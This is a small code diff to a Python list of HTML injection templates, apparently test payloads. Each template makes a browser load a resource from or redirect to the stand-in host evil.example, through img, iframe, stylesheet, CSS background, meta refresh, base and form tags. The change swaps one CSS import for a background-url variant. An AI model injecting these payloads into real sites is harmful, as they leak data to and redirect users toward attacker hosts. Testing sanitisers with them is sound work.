@@ -26,7 +26,7 @@ TEMPLATES = [
     "<img src=//evil.example/{0}.png>",
     "<iframe src=//evil.example/{0}></iframe>",
     "<link rel=stylesheet href=//evil.example/{0}.css>",
-    "<style>@import url(//evil.example/{0}.css);</style>",
+    "<style>body{{background:url(//evil.example/{0}.png)}}</style>",
     "<meta http-equiv=refresh content=0;url=//evil.example/{0}>",
     "<base href=//evil.example/{0}/>",
     "<form action=//evil.example/{0}><button autofocus>x</button></form>",
